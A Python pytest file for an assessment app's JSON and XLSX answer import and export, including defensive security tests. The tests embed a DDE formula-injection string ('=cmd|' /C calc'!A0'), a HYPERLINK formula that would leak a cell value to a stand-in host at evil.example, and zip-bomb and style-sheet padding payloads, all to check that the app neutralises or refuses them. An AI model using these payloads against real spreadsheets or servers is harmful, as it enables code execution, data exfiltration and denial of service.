"""Export and import of answers: JSON both ways, the XLSX template filled in offline."""

from __future__ import annotations

import io
import re
from collections.abc import Callable
from typing import Any

from assessment_helpers import (
    BUNDLED_KEY,
    disclosure,
    error_paths,
    evidence,
    patch_answers,
    read,
    url,
)
from fastapi.testclient import TestClient
from openpyxl import Workbook, load_workbook
from openpyxl.utils import get_column_letter

from hrdd.questionnaires.schemas import Questionnaire

Start = Callable[..., tuple[dict[str, Any], str]]
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

ANSWERS = {
    "EX1": {"type": "multiple_choice", "values": ["interception", "forensic_extraction"]},
    "EX2": {"type": "number", "value": "40", "unit": "percent"},
    "EX5": {"type": "single_choice", "value": "yes"},
    "EU3a": {"type": "single_choice", "value": "yes"},
    "EU3b": {"type": "date", "value": "2016-04-01"},
    "P1": disclosure(
        "partial",
        evidence("Policy page", "Test Vendor", "2020-05-04", link="https://vendor.example/policy"),
    ),
    "P2": {"type": "disclosure", "level": "not_applicable", "not_applicable_reason": "Test reason"},
    "P3": {"type": "text", "value": "Reviewed by nobody independent.", "comment": "Test"},
}


def import_json(
    client: TestClient, headers: dict[str, str], assessment_id: str, body: Any, etag: str | None
) -> Any:
    extra = {"If-Match": etag} if etag else {}
    return client.post(url(assessment_id, "/import"), json=body, headers=headers | extra)


def import_xlsx(
    client: TestClient, headers: dict[str, str], assessment_id: str, content: bytes, etag: str
) -> Any:
    return client.post(
        url(assessment_id, "/import.xlsx"),
        files={"file": ("filled.xlsx", content, XLSX)},
        headers=headers | {"If-Match": etag},
    )


def template(client: TestClient, headers: dict[str, str], version: str) -> Any:
    response = client.get(
        f"/api/v1/questionnaires/{BUNDLED_KEY}/versions/{version}/template.xlsx", headers=headers
    )
    assert response.status_code == 200
    return load_workbook(io.BytesIO(response.content))


def saved_bytes(workbook: Any) -> bytes:
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def fill(workbook: Any, question_id: str, **cells: Any) -> int:
    """Write cells (by header label) on the question's row, None clearing one; returns the
    row number."""
    sheet = workbook["Answers"]
    header = [cell.value for cell in sheet[1]]
    for row in range(2, sheet.max_row + 1):
        if sheet.cell(row=row, column=1).value == question_id:
            for label, value in cells.items():
                sheet.cell(row=row, column=header.index(label) + 1).value = value
            return row
    raise AssertionError(f"no row for {question_id}")


def test_json_export_imports_as_it_is_but_not_into_another_company(
    client: TestClient, tenant_a: Any, start_assessment: Start
) -> None:
    source, etag = start_assessment()
    saved = patch_answers(client, tenant_a.investor, source["id"], ANSWERS, etag)
    assert saved.status_code == 200, saved.text
    exported = client.get(url(source["id"], "/export"), headers=tenant_a.investor)
    assert exported.status_code == 200
    assert "attachment" in exported.headers["content-disposition"]
    document = exported.json()
    assert set(document["answers"]) == set(ANSWERS)
    original, _ = read(client, tenant_a.investor, source["id"])

    # Back into its own assessment, as it is (its record of where it came from included).
    first = next(iter(ANSWERS))
    cleared = client.delete(
        url(source["id"], f"/answers/{first}"),
        headers=tenant_a.investor | {"If-Match": saved.headers["ETag"]},
    )
    assert cleared.status_code == 200, cleared.text
    _, source_etag = read(client, tenant_a.investor, source["id"])
    assert import_json(client, tenant_a.investor, source["id"], document, None).status_code == 428
    restored = import_json(client, tenant_a.investor, source["id"], document, source_etag)
    assert restored.status_code == 200, restored.text
    again, _ = read(client, tenant_a.investor, source["id"])
    assert {q: a["payload"] for q, a in again["answers"].items()} == {
        q: a["payload"] for q, a in original["answers"].items()
    }

    # One company's answers are not evidence about another: refused unless company_id is
    # left out (a template for several companies).
    target, target_etag = start_assessment()
    refused = import_json(client, tenant_a.investor, target["id"], document, target_etag)
    assert refused.status_code == 422, refused.text
    assert [e["path"] for e in refused.json()["errors"]] == ["company_id"]
    assert read(client, tenant_a.investor, target["id"])[0]["answers"] == {}
    template = {key: value for key, value in document.items() if key != "company_id"}
    imported = import_json(client, tenant_a.investor, target["id"], template, target_etag)
    assert imported.status_code == 200, imported.text
    assert set(imported.json()["imported"]) == set(ANSWERS)
    copied, _ = read(client, tenant_a.investor, target["id"])
    assert (copied["id"], copied["status"]) == (target["id"], "draft")
    assert {q: a["payload"] for q, a in copied["answers"].items()} == {
        q: a["payload"] for q, a in original["answers"].items()
    }


def test_json_import_for_another_version_or_with_bad_answers_changes_nothing(
    client: TestClient, tenant_a: Any, start_assessment: Start
) -> None:
    target, etag = start_assessment()
    before, _ = read(client, tenant_a.investor, target["id"])
    base = {
        "questionnaire_key": BUNDLED_KEY,
        "questionnaire_version": before["questionnaire"]["version"],
    }
    other_version = import_json(
        client,
        tenant_a.investor,
        target["id"],
        base | {"questionnaire_version": "0.9.0", "answers": ANSWERS},
        etag,
    )
    assert other_version.status_code == 422
    assert error_paths(other_version) == {"questionnaire_version"}
    bad = import_json(
        client,
        tenant_a.investor,
        target["id"],
        base
        | {
            "answers": ANSWERS
            | {"EX5": {"type": "single_choice", "value": "maybe"}, "NOPE": disclosure("no")}
        },
        etag,
    )
    assert bad.status_code == 422
    # EU3a and EU3b depend on EX5, which is now invalid: they are hidden too.
    assert error_paths(bad) == {"answers.EX5.value", "answers.NOPE", "answers.EU3a", "answers.EU3b"}
    assert read(client, tenant_a.investor, target["id"]) == (before, etag)


def test_filled_xlsx_template_round_trip(
    client: TestClient, tenant_a: Any, bundled: Questionnaire, start_assessment: Start
) -> None:
    draft, etag = start_assessment()
    workbook = template(client, tenant_a.investor, bundled.version)
    fill(workbook, "EX1", Answer="interception, forensic_extraction")
    fill(workbook, "EX2", Answer=40)
    # Options by id or label, in any case, as disclosure levels are read ("Partial").
    fill(workbook, "EX5", Answer="Yes")
    fill(workbook, "EU3a", Answer="YES")
    fill(workbook, "EU3b", Answer="2016-04-01")
    fill(
        workbook,
        "P1",
        Answer="Partial",
        **{
            "Evidence URL": "https://vendor.example/policy",
            "Evidence title": "Policy page",
            "Evidence publisher": "Test Vendor",
            "Evidence date (YYYY-MM-DD)": "2020-05-04",
        },
    )
    fill(workbook, "P2", Answer="not_applicable", **{"Not-applicable reason": "Test reason"})
    fill(workbook, "P3", Answer="Reviewed by nobody independent.", Comment="Test")
    response = import_xlsx(client, tenant_a.investor, draft["id"], saved_bytes(workbook), etag)
    assert response.status_code == 200, response.text
    assert set(response.json()["imported"]) == set(ANSWERS)
    answers = read(client, tenant_a.investor, draft["id"])[0]["answers"]
    expected, _ = start_assessment()
    through_api = patch_answers(client, tenant_a.investor, expected["id"], ANSWERS, _)
    assert through_api.status_code == 200
    assert {q: a["payload"] for q, a in answers.items()} == {
        q: a["payload"] for q, a in through_api.json()["answers"].items()
    }


def test_an_xlsx_row_keeps_the_sources_and_comment_its_answer_already_has(
    client: TestClient, tenant_a: Any, bundled: Questionnaire, start_assessment: Start
) -> None:
    """The template comes out blank and a row carries one source: importing a row for an
    answer that cites two sources dropped both. A row now sets the answer and adds its source;
    a source already cited is not added twice, and an empty comment keeps the old one."""
    draft, etag = start_assessment()
    cited = [
        evidence("Lab report", "Example Lab", "2021-07-18", link="https://lab.example/report"),
        evidence("NGO brief", "Example NGO", "2021-08-01", link="https://ngo.example/brief/"),
    ]
    first = {"type": "number", "value": "25", "comment": "Counted from lab reports"}
    written = patch_answers(
        client, tenant_a.investor, draft["id"], {"R1": first | {"evidence": cited}}, etag
    )
    assert written.status_code == 200, written.text
    workbook = template(client, tenant_a.investor, bundled.version)
    fill(
        workbook,
        "R1",
        Answer=26,
        **{"Evidence URL": "https://ngo.example/brief", "Evidence title": "NGO brief again"},
    )
    fill(
        workbook,
        "P1",
        Answer="partial",
        Comment="New",
        **{"Evidence URL": "https://vendor.example/policy", "Evidence title": "Policy page"},
    )
    response = import_xlsx(
        client, tenant_a.investor, draft["id"], saved_bytes(workbook), written.headers["ETag"]
    )
    assert response.status_code == 200, response.text
    answers = read(client, tenant_a.investor, draft["id"])[0]["answers"]
    r1 = answers["R1"]["payload"]
    assert r1["value"] == "26"
    assert r1["comment"] == "Counted from lab reports"
    assert [source["title"] for source in r1["evidence"]] == ["Lab report", "NGO brief"]
    p1 = answers["P1"]["payload"]
    assert (p1["comment"], [source["title"] for source in p1["evidence"]]) == (
        "New",
        ["Policy page"],
    )


def test_an_xlsx_percentage_reads_as_the_sheet_shows_it(
    client: TestClient, tenant_a: Any, bundled: Questionnaire, start_assessment: Start
) -> None:
    """Typing 42% stores 0.42 in a cell formatted as a percentage: it was imported as 0.42
    percent and printed so."""
    draft, etag = start_assessment()
    workbook = template(client, tenant_a.investor, bundled.version)
    row = fill(workbook, "EX2", Answer=0.425)
    header = [cell.value for cell in workbook["Answers"][1]]
    workbook["Answers"].cell(row=row, column=header.index("Answer") + 1).number_format = "0.0%"
    response = import_xlsx(client, tenant_a.investor, draft["id"], saved_bytes(workbook), etag)
    assert response.status_code == 200, response.text
    answer = read(client, tenant_a.investor, draft["id"])[0]["answers"]["EX2"]["payload"]
    assert (answer["value"], answer["unit"]) == ("42.5", "percent")


def test_an_xlsx_multiple_choice_may_say_none_applies(
    client: TestClient, tenant_a: Any, bundled: Questionnaire, start_assessment: Start
) -> None:
    """IN4 is required and may have nothing ticked, but an empty cell skips the row: the
    template could not answer it. 'none' does, where the question allows it."""
    draft, etag = start_assessment()
    workbook = template(client, tenant_a.investor, bundled.version)
    row = fill(workbook, "IN4", Answer="None")
    header = [cell.value for cell in workbook["Answers"][1]]
    allowed = workbook["Answers"].cell(row=row, column=header.index("Allowed values") + 1).value
    assert allowed.endswith("or none when none applies")
    response = import_xlsx(client, tenant_a.investor, draft["id"], saved_bytes(workbook), etag)
    assert response.status_code == 200, response.text
    answer = read(client, tenant_a.investor, draft["id"])[0]["answers"]["IN4"]["payload"]
    assert answer["values"] == []


def test_xlsx_evidence_dated_to_the_month_or_year_keeps_its_precision(
    client: TestClient, tenant_a: Any, bundled: Questionnaire, start_assessment: Start
) -> None:
    """ "2019-09" or "2019" in the date cell is a source known to the month or year: stored as
    its first day with that precision, so reports never print a day the source lacks."""
    draft, etag = start_assessment()
    workbook = template(client, tenant_a.investor, bundled.version)
    for question_id, dated in (("P1", "2019-09"), ("G1", "2019"), ("DD1", "2019-13")):
        fill(
            workbook,
            question_id,
            Answer="partial",
            **{
                "Evidence URL": "https://example.org/review",
                "Evidence title": "Review",
                "Evidence date (YYYY-MM-DD)": dated,
            },
        )
    refused = import_xlsx(client, tenant_a.investor, draft["id"], saved_bytes(workbook), etag)
    assert refused.status_code == 422, refused.text
    assert {e["path"].rsplit(".", 1)[-1] for e in refused.json()["errors"]} == {"evidence_date"}
    fill(workbook, "DD1", Answer="partial", **{"Evidence date (YYYY-MM-DD)": "2019-12"})
    response = import_xlsx(client, tenant_a.investor, draft["id"], saved_bytes(workbook), etag)
    assert response.status_code == 200, response.text
    answers = read(client, tenant_a.investor, draft["id"])[0]["answers"]
    evidence = {q: answers[q]["payload"]["evidence"][0] for q in ("P1", "G1", "DD1")}
    assert [(e["source_date"], e["source_date_precision"]) for e in evidence.values()] == [
        ("2019-09-01", "month"),
        ("2019-01-01", "year"),
        ("2019-12-01", "month"),
    ]


def test_json_evidence_dated_to_the_month_or_year_keeps_its_precision(
    client: TestClient, tenant_a: Any, start_assessment: Start
) -> None:
    """The template took "2019-09" and JSON refused it as "input is too short" without a word
    about source_date_precision (the investor review). Both take it alike now."""
    draft, etag = start_assessment()

    def dated(text: str, **extra: Any) -> dict[str, Any]:
        source = {"url": "https://example.org/review", "title": "Review", "source_date": text}
        return disclosure("partial", source | extra)

    answers = {"P1": dated("2019-09"), "G1": dated("2019"), "DD1": dated("2019-12-05")}
    saved = patch_answers(client, tenant_a.investor, draft["id"], answers, etag)
    assert saved.status_code == 200, saved.text
    stored = {q: saved.json()["answers"][q]["payload"]["evidence"][0] for q in ("P1", "G1", "DD1")}
    assert [(e["source_date"], e.get("source_date_precision")) for e in stored.values()] == [
        ("2019-09-01", "month"),
        ("2019-01-01", "year"),
        ("2019-12-05", None),
    ]
    # A month that does not exist, or a precision the date contradicts, is still refused.
    refused = patch_answers(
        client,
        tenant_a.investor,
        draft["id"],
        {"P1": dated("2019-13"), "G1": dated("2019-09-05", source_date_precision="month")},
        saved.headers["ETag"],
    )
    assert refused.status_code == 422, refused.text
    assert {path.split(".")[1] for path in error_paths(refused)} == {"P1", "G1"}


def test_an_xlsx_formula_saved_without_its_value_is_refused_naming_its_cell(
    client: TestClient, tenant_a: Any, bundled: Questionnaire, start_assessment: Start
) -> None:
    """A template filled by a script (openpyxl, as here, saves a formula without its result):
    read as empty, a row whose only input is =30+10 was skipped as a cleared row without a
    word, and the answer the file states was lost. Refused at its cell; nothing is saved."""
    draft, etag = start_assessment()
    before, _ = read(client, tenant_a.investor, draft["id"])
    workbook = template(client, tenant_a.investor, bundled.version)
    fill(workbook, "G1", Answer="no")
    row = fill(workbook, "EX2", Answer="=30+10")
    response = import_xlsx(client, tenant_a.investor, draft["id"], saved_bytes(workbook), etag)
    assert response.status_code == 422, response.text
    problems = {e["path"]: e["message"] for e in response.json()["errors"]}
    assert problems == {
        f"rows.{row}.answer": f"row {row}, question EX2: the cell holds a formula (=30+10) with "
        "no saved result, as programs that do not calculate write them: open the file in "
        "Excel or LibreOffice and save it, or type the value"
    }
    assert read(client, tenant_a.investor, draft["id"]) == (before, etag)


def test_a_placeholder_result_in_a_template_is_refused_unless_a_calculator_saved_it(
    client: TestClient, tenant_a: Any, bundled: Questionnaire, start_assessment: Start
) -> None:
    """XlsxWriter (pandas) saves a formula with a result of 0 and marks the workbook to be
    calculated on loading: read as saved, =30+10 would have been an answer of 0. Saved by
    Excel (no such mark), the result saved is the answer."""
    draft, etag = start_assessment()
    workbook = template(client, tenant_a.investor, bundled.version)
    row = fill(workbook, "EX2", Answer="=30+10")

    def with_result(result: str, *, marked: bool) -> bytes:
        def change(name: str, content: bytes) -> bytes:
            if name.startswith("xl/worksheets/"):
                return re.sub(
                    rb"<f>30\+10</f>(<v\s*/>|<v></v>)?",
                    b"<f>30+10</f><v>" + result.encode() + b"</v>",
                    content,
                )
            if name == "xl/workbook.xml" and not marked:
                return content.replace(b' fullCalcOnLoad="1"', b"")
            return content

        return repacked(saved_bytes(workbook), change)

    placeholder = with_result("0", marked=True)
    refused = import_xlsx(client, tenant_a.investor, draft["id"], placeholder, etag)
    assert refused.status_code == 422, refused.text
    assert [e["path"] for e in refused.json()["errors"]] == [f"rows.{row}.answer"]

    calculated = with_result("40", marked=False)
    imported = import_xlsx(client, tenant_a.investor, draft["id"], calculated, etag)
    assert imported.status_code == 200, imported.text
    answers, _ = read(client, tenant_a.investor, draft["id"])
    assert answers["answers"]["EX2"]["payload"]["value"] == "40"


def test_a_formula_in_a_column_the_import_does_not_read_changes_nothing(
    client: TestClient, tenant_a: Any, bundled: Questionnaire, start_assessment: Start
) -> None:
    """A note worked out in the guidance column, even far below the questions, leaves its row
    as empty as it was: the import reads the question, the answer and its sources only."""
    draft, etag = start_assessment()
    workbook = template(client, tenant_a.investor, bundled.version)
    fill(workbook, "G1", Answer="no")
    sheet = workbook["Answers"]
    header = [cell.value for cell in sheet[1]]
    sheet.cell(row=sheet.max_row + 250, column=header.index("Guidance") + 1, value="=1+1")
    response = import_xlsx(client, tenant_a.investor, draft["id"], saved_bytes(workbook), etag)
    assert response.status_code == 200, response.text
    answers, _ = read(client, tenant_a.investor, draft["id"])
    assert answers["answers"]["G1"]["payload"]["level"] == "no"


def test_xlsx_row_errors_name_row_and_column_and_nothing_is_saved(
    client: TestClient, tenant_a: Any, bundled: Questionnaire, start_assessment: Start
) -> None:
    draft, etag = start_assessment()
    before, _ = read(client, tenant_a.investor, draft["id"])
    workbook = template(client, tenant_a.investor, bundled.version)
    good_row = fill(workbook, "G1", Answer="no")
    bad_level = fill(workbook, "P1", Answer="mostly")
    bad_number = fill(workbook, "EX2", Answer="about forty")
    out_of_bounds = fill(workbook, "DD6", Answer=-3)
    hidden = fill(workbook, "EU6", Answer="full")
    no_answer = fill(workbook, "P2", Comment="a comment without an answer")
    sheet = workbook["Answers"]
    extra_row = sheet.max_row + 1
    sheet.cell(row=extra_row, column=1, value="ZZ1")
    header = [cell.value for cell in sheet[1]]
    sheet.cell(row=extra_row, column=header.index("Answer") + 1, value="full")
    response = import_xlsx(client, tenant_a.investor, draft["id"], saved_bytes(workbook), etag)
    assert response.status_code == 422
    problems = {e["path"]: e["message"] for e in response.json()["errors"]}
    assert set(problems) == {
        f"rows.{bad_level}.answer",
        f"rows.{bad_number}.answer",
        f"rows.{out_of_bounds}.answer",
        f"rows.{hidden}.answer",
        f"rows.{no_answer}.answer",
        f"rows.{extra_row}.question_id",
    }
    assert problems[f"rows.{bad_level}.answer"].startswith(f"row {bad_level}, question P1:")
    assert f"rows.{good_row}.answer" not in problems
    assert read(client, tenant_a.investor, draft["id"]) == (before, etag)


def test_an_xlsx_date_in_a_local_format_is_refused_saying_how_to_write_it(
    client: TestClient, tenant_a: Any, bundled: Questionnaire, start_assessment: Start
) -> None:
    draft, etag = start_assessment()
    workbook = template(client, tenant_a.investor, bundled.version)
    fill(workbook, "EX5", Answer="yes")
    fill(workbook, "EU3a", Answer="yes")
    row = fill(workbook, "EU3b", Answer="03/11/2021")
    response = import_xlsx(client, tenant_a.investor, draft["id"], saved_bytes(workbook), etag)
    assert response.status_code == 422, response.text
    problems = {e["path"]: e["message"] for e in response.json()["errors"]}
    assert "YYYY-MM-DD" in problems[f"rows.{row}.answer"]


def test_a_workbook_that_is_not_the_template_is_422(
    client: TestClient,
    tenant_a: Any,
    bundled: Questionnaire,
    settings: Any,
    start_assessment: Start,
) -> None:
    draft, etag = start_assessment()
    before, _ = read(client, tenant_a.investor, draft["id"])

    changed_header = template(client, tenant_a.investor, bundled.version)
    changed_header["Answers"]["J1"] = "My answer"
    no_marker = template(client, tenant_a.investor, bundled.version)
    no_marker["About"]["B1"] = "something else"
    far_below = template(client, tenant_a.investor, bundled.version)
    far_below["Answers"].cell(row=len(bundled.questions) + 500, column=1, value="P1")
    plain = Workbook()
    plain.active.append(["Question id", "Answer"])

    text = (settings.questionnaires_dir / "stap-surveillance-v1.yaml").read_text()
    published = client.post(
        "/api/v1/questionnaires",
        files={
            "file": (
                "q.yaml",
                text.replace(f"\nversion: {bundled.version}\n", "\nversion: 1.1.0\n", 1).encode(),
                "application/x-yaml",
            )
        },
        headers=tenant_a.analyst,
    )
    assert published.status_code == 201
    other_version = template(client, tenant_a.investor, "1.1.0")

    for content in (
        b"not a spreadsheet at all",
        b"PK\x03\x04 a broken zip",
        saved_bytes(plain),
        saved_bytes(changed_header),
        saved_bytes(no_marker),
        saved_bytes(far_below),
        saved_bytes(other_version),
    ):
        response = import_xlsx(client, tenant_a.investor, draft["id"], content, etag)
        assert response.status_code == 422, response.text
        assert error_paths(response) == {"file"}
    assert read(client, tenant_a.investor, draft["id"]) == (before, etag)


def test_an_xlsx_over_the_upload_limit_is_413(
    client: TestClient, tenant_a: Any, bundled: Questionnaire, start_assessment: Start
) -> None:
    draft, etag = start_assessment()
    settings = client.app.state.settings
    client.app.state.settings = settings.model_copy(update={"max_upload_bytes": 1024})
    workbook = template(client, tenant_a.investor, bundled.version)
    response = import_xlsx(client, tenant_a.investor, draft["id"], saved_bytes(workbook), etag)
    assert response.status_code == 413


SOURCE_COLUMN = "Evidence source (company or independent)"
REMOVE_COLUMN = "Remove answer"
SHOWN_NOW = "Shown now"
POLICY_EVIDENCE = {
    "Evidence URL": "https://vendor.example/policy",
    "Evidence title": "Policy page",
}


def test_xlsx_evidence_says_whose_source_it_is_in_any_case(
    client: TestClient, tenant_a: Any, bundled: Questionnaire, start_assessment: Start
) -> None:
    draft, etag = start_assessment()
    workbook = template(client, tenant_a.investor, bundled.version)
    fill(workbook, "P1", Answer="full", **POLICY_EVIDENCE, **{SOURCE_COLUMN: " Company "})
    response = import_xlsx(client, tenant_a.investor, draft["id"], saved_bytes(workbook), etag)
    assert response.status_code == 200, response.text
    answers = read(client, tenant_a.investor, draft["id"])[0]["answers"]
    assert answers["P1"]["payload"]["evidence"] == [
        {"url": "https://vendor.example/policy", "title": "Policy page", "source": "company"}
    ]


def test_an_unknown_xlsx_source_kind_names_its_row_and_column(
    client: TestClient, tenant_a: Any, bundled: Questionnaire, start_assessment: Start
) -> None:
    draft, etag = start_assessment()
    before, _ = read(client, tenant_a.investor, draft["id"])
    workbook = template(client, tenant_a.investor, bundled.version)
    row = fill(workbook, "P1", Answer="full", **POLICY_EVIDENCE, **{SOURCE_COLUMN: "mostly ours"})
    response = import_xlsx(client, tenant_a.investor, draft["id"], saved_bytes(workbook), etag)
    assert response.status_code == 422, response.text
    assert [e["path"] for e in response.json()["errors"]] == [f"rows.{row}.evidence_source"]
    assert read(client, tenant_a.investor, draft["id"]) == (before, etag)


def as_older_format(workbook: Any, template_format: str, *dropped: str) -> Any:
    """The workbook as a template of an earlier format was made: its format on the About
    sheet, without the columns added since (Shown now, which every earlier format lacks, and
    ``dropped``, at the end), and a column of the user's own notes after its last column, as
    an older template allowed."""
    about = workbook["About"]
    [format_row] = [row for row in about.iter_rows() if row[0].value == "format"]
    format_row[1].value = template_format
    sheet = workbook["Answers"]
    header = [cell.value for cell in sheet[1]]
    for column in sorted(
        (header.index(label) + 1 for label in (SHOWN_NOW, *dropped)), reverse=True
    ):
        sheet.delete_cols(column)
    sheet.cell(row=1, column=len(header) - len(dropped), value="My notes")
    return workbook


def test_a_template_made_before_the_source_column_still_imports(
    client: TestClient, tenant_a: Any, bundled: Questionnaire, start_assessment: Start
) -> None:
    draft, etag = start_assessment()
    workbook = as_older_format(
        template(client, tenant_a.investor, bundled.version),
        "hrdd-assessment-template/1",
        SOURCE_COLUMN,
        REMOVE_COLUMN,
    )
    fill(workbook, "P1", Answer="full", **POLICY_EVIDENCE, **{"My notes": "independent"})
    response = import_xlsx(client, tenant_a.investor, draft["id"], saved_bytes(workbook), etag)
    assert response.status_code == 200, response.text
    assert read(client, tenant_a.investor, draft["id"])[0]["answers"]["P1"]["payload"][
        "evidence"
    ] == [{"url": "https://vendor.example/policy", "title": "Policy page"}]


def test_an_edited_source_header_in_a_current_template_is_refused(
    client: TestClient, tenant_a: Any, bundled: Questionnaire, start_assessment: Start
) -> None:
    """Only a template made before the column may lack it; in a current one, renaming its
    header would silently drop every declared source, so the import refuses it."""
    draft, etag = start_assessment()
    workbook = template(client, tenant_a.investor, bundled.version)
    sheet = workbook["Answers"]
    header = [cell.value for cell in sheet[1]]
    sheet.cell(row=1, column=header.index(SOURCE_COLUMN) + 1, value="Whose?")
    fill(workbook, "P1", Answer="full", **POLICY_EVIDENCE, **{"Whose?": "company"})
    response = import_xlsx(client, tenant_a.investor, draft["id"], saved_bytes(workbook), etag)
    assert response.status_code == 422, response.text
    assert "header row" in response.text


def _scoring_cells(workbook: Any) -> tuple[dict[str, str], str]:
    sheet = workbook["Answers"]
    header = [cell.value for cell in sheet[1]]
    kind = header.index("Answer type")
    by_question = {row[0]: row[kind] for row in sheet.iter_rows(min_row=2, values_only=True)}
    about = {row[0]: row[1] for row in workbook["About"].iter_rows(values_only=True)}
    return by_question, about["scoring"]


def test_the_template_says_which_questions_are_scored(
    client: TestClient, tenant_a: Any, bundled: Questionnaire, db: Any, settings: Any
) -> None:
    """An investor filling in the sheet learns which answers move the score: a disclosure of a
    scored theme and a count the rules have a number rule for are scored; the count of
    forensic allegations (R1) and the exposure questions are context."""
    from hrdd.scoring.service import load_bundled_rulesets

    before, about = _scoring_cells(template(client, tenant_a.investor, bundled.version))
    assert "no rule set is loaded" in about
    assert before["DD6"] == "number\nNot scored: context for the analyst and the reports"

    load_bundled_rulesets(db, settings)
    cells, about = _scoring_cells(template(client, tenant_a.investor, bundled.version))
    latest = max(int(path.stem.split("-v")[1]) for path in settings.scoring_dir.glob("default-v*"))
    assert f"(default v{latest})" in about
    policy = bundled.theme(bundled.question("P1").theme).title
    assert cells["P1"] == f"disclosure\nScored (theme: {policy})"
    assert cells["DD6"].startswith("number\nScored (theme: ")
    for context in ("R1", "EX1", "EX5", "P3"):
        assert cells[context].endswith("\nNot scored: context for the analyst and the reports")


def repacked(
    data: bytes,
    change: Callable[[str, bytes], bytes] = lambda _, content: content,
    extra: tuple[str, bytes] | None = None,
) -> bytes:
    """A workbook's parts zipped again, each through ``change`` (name, content -> content),
    with ``extra`` added."""
    import zipfile

    packed = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as original,
        zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as rebuilt,
    ):
        for member in original.infolist():
            rebuilt.writestr(member, change(member.filename, original.read(member)))
        if extra is not None:
            rebuilt.writestr(*extra)
    return packed.getvalue()


def test_a_workbook_that_unpacks_to_gigabytes_is_413_before_it_is_read(
    client: TestClient, tenant_a: Any, bundled: Questionnaire, start_assessment: Start
) -> None:
    """A real template with one member padded to 60 MB of zeros: it compresses to a few
    tens of kilobytes, and openpyxl would hold it all in memory (the security review grew
    the server to 2.4 GB with a 1 MB file). Nothing is imported and the version stays."""

    draft, etag = start_assessment()
    before = read(client, tenant_a.investor, draft["id"])
    workbook = template(client, tenant_a.investor, bundled.version)
    fill(workbook, "P3", Answer="Would be imported")
    packed = repacked(saved_bytes(workbook), extra=("xl/padding.bin", b"\0" * (60 * 1024 * 1024)))
    assert len(packed) < 1024 * 1024

    response = import_xlsx(client, tenant_a.investor, draft["id"], packed, etag)
    assert response.status_code == 413, response.text
    [error] = response.json()["errors"]
    assert error["path"] == "file" and "unpacks to" in error["message"]
    assert read(client, tenant_a.investor, draft["id"]) == before


def test_a_template_whose_style_sheet_holds_millions_of_formats_is_refused_unread(
    client: TestClient, tenant_a: Any, bundled: Questionnaire, start_assessment: Start
) -> None:
    """The security test: a filled template whose style sheet was padded with empty cell
    formats (a few hundred kilobytes zipped) took 28 s and gigabytes in openpyxl before its
    422. It is refused from the count of its tags, and nothing is imported."""

    draft, etag = start_assessment()
    before = read(client, tenant_a.investor, draft["id"])
    workbook = template(client, tenant_a.investor, bundled.version)
    fill(workbook, "P3", Answer="Would be imported")
    packed = repacked(
        saved_bytes(workbook),
        change=lambda name, content: (
            content.replace(b"</cellXfs>", b"<xf/>" * 700_000 + b"</cellXfs>")
            if name == "xl/styles.xml"
            else content
        ),
    )

    response = import_xlsx(client, tenant_a.investor, draft["id"], packed, etag)
    assert response.status_code == 422, response.text
    [error] = response.json()["errors"]
    assert error["path"] == "file"
    assert "its part xl/styles.xml holds 700," in error["message"]
    assert read(client, tenant_a.investor, draft["id"]) == before


def test_a_template_is_read_before_the_write_begins(
    client: TestClient,
    tenant_a: Any,
    bundled: Questionnaire,
    start_assessment: Start,
    write_sessions: list[Any],
    monkeypatch: Any,
) -> None:
    """As the holdings import: the workbook is read before the request's write session does
    anything, so that on SQLite no write lock is held while it is read."""
    from hrdd.assessments import xlsx as xlsx_template

    draft, etag = start_assessment()
    workbook = template(client, tenant_a.investor, bundled.version)
    fill(workbook, "P3", Answer="PacketLogic DPI")
    begun_while_reading: list[bool] = []
    read_template = xlsx_template.read_template

    def reading(*args: Any, **kwargs: Any) -> Any:
        begun_while_reading.append(any(s.in_transaction() for s in write_sessions))
        return read_template(*args, **kwargs)

    monkeypatch.setattr(xlsx_template, "read_template", reading)
    response = import_xlsx(client, tenant_a.investor, draft["id"], saved_bytes(workbook), etag)
    assert response.status_code == 200, response.text
    assert begun_while_reading == [False]
    assert response.json()["imported"] == ["P3"]
    payload = read(client, tenant_a.investor, draft["id"])[0]["answers"]["P3"]["payload"]
    assert payload["value"] == "PacketLogic DPI"


def test_an_answer_that_looks_like_a_formula_stays_text_when_its_cell_is_edited(
    client: TestClient, tenant_a: Any, start_assessment: Start
) -> None:
    """The security test: an answer saved as "=cmd|..." came back in the template as a text
    cell of the General format, which Excel reads as a formula once the investor edits the
    (yellow, input) cell and presses Enter. Such cells are in the Text format; others are not."""
    draft, etag = start_assessment()
    formula = "=cmd|' /C calc'!A0"
    answers = {
        "P3": {"type": "text", "value": formula, "comment": "+SUM(1,2)"},
        "P2": ANSWERS["P2"],
    }
    saved = patch_answers(client, tenant_a.investor, draft["id"], answers, etag)
    assert saved.status_code == 200, saved.text
    response = client.get(url(draft["id"], "/template.xlsx"), headers=tenant_a.investor)
    sheet = load_workbook(io.BytesIO(response.content))["Answers"]
    header = [cell.value for cell in sheet[1]]
    cells = {
        row[0].value: dict(zip(header, row, strict=False)) for row in sheet.iter_rows(min_row=2)
    }
    for cell in (cells["P3"]["Answer"], cells["P3"]["Comment"]):
        assert (cell.data_type, cell.number_format) == ("s", "@"), cell.value
    assert cells["P3"]["Answer"].value == formula
    assert cells["P2"]["Not-applicable reason"].number_format == "General"


def test_question_text_that_looks_like_a_formula_is_written_as_text(
    client: TestClient, tenant_a: Any, bundled: Questionnaire, settings: Any
) -> None:
    """An analyst publishes a questionnaire version and the organisation's investors download
    its template: text starting with '=' must not become a live formula in their sheets."""
    formula = '=HYPERLINK("https://evil.example/?leak="&J2,"Open the guidance")'
    text = (settings.questionnaires_dir / "stap-surveillance-v1.yaml").read_text()
    lines = text.replace(f"\nversion: {bundled.version}\n", "\nversion: 1.1.0\n", 1).split("\n")
    # P1's folded text block becomes one quoted line holding the formula.
    start = lines.index("  - id: P1") + 3
    assert lines[start] == "    text: >-"
    end = start + 1
    while lines[end].startswith("      "):
        end += 1
    lines[start:end] = [f"    text: '{formula}'"]
    published = client.post(
        "/api/v1/questionnaires",
        files={"file": ("q.yaml", "\n".join(lines).encode(), "application/x-yaml")},
        headers=tenant_a.analyst,
    )
    assert published.status_code == 201, published.text

    workbook = template(client, tenant_a.investor, "1.1.0")
    sheet = workbook["Answers"]
    [cell] = [row[2] for row in sheet.iter_rows(min_row=2) if row[0].value == "P1"]
